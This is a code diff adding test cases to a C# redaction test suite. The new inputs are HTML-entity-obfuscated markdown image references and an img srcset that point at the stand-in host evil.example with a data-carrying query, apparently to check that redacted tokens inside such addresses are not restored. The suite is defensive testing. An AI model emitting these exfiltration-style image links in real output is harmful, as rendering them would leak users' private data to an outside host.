@@ -108,6 +108,11 @@ public sealed class RedactionModeTests
     [InlineData("<img src=//evil.example/@>", false)]
     [InlineData("{\"a\":\"https:\\/\\/evil.example\\/@\"}", false)]
     [InlineData("[x]: https://evil.example/@", false)]
+    [InlineData("![a][x]\n\n[x]: &#x2F;/evil.example/?d=@", false)]
+    [InlineData("![a][x]\n\n[x]: &#0104;ttp&colon;evil.example?d=@", false)]
+    [InlineData("<img srcset='/&sol;evil.example/?d=@ 2x'>", false)]
+    [InlineData("It&#39;s @", true)]
+    [InlineData("It is&#160;@", true)]
     public void A_token_within_an_address_stays(string text, bool isRestored)
     {
         var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
